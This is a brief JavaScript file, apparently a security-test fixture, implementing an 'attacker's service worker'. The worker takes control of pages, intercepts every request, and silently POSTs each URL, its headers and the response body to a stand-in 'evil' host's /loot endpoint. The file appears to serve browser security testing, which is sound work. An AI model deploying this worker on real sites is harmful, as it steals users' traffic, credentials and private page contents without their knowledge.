/* global NAMES */
/** The attacker's service worker: it sends home each request and each answer of the pages it controls. */
self.oninstall = () => self.skipWaiting();
self.onactivate = (event) => event.waitUntil(self.clients.claim());
self.onfetch = (event) => {
  const { url, headers } = event.request;
  if (url.startsWith(NAMES.evil)) return;
  const answer = fetch(event.request);
  const copy = answer.then((response) => response.clone());
  event.respondWith(answer);
  event.waitUntil(
    copy.then(async (response) => {
      const body = `${url} ${JSON.stringify([...headers])} ${await response.text()}`;
      await fetch(`${NAMES.evil}/loot`, { method: "POST", mode: "no-cors", body });
    }),
  );
};
